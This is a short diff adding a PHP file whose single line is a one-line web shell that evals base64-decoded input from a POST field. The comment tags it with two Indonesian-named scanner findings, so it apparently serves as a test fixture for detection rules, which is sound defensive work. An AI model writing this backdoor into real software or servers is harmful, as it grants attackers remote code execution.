@@ -1,0 +1,2 @@
+<?php
+@eval(base64_decode($_POST["x"])); // TEMUAN kawal-php-kode-dari-data dan TEMUAN kawal-php-kode-tersembunyi
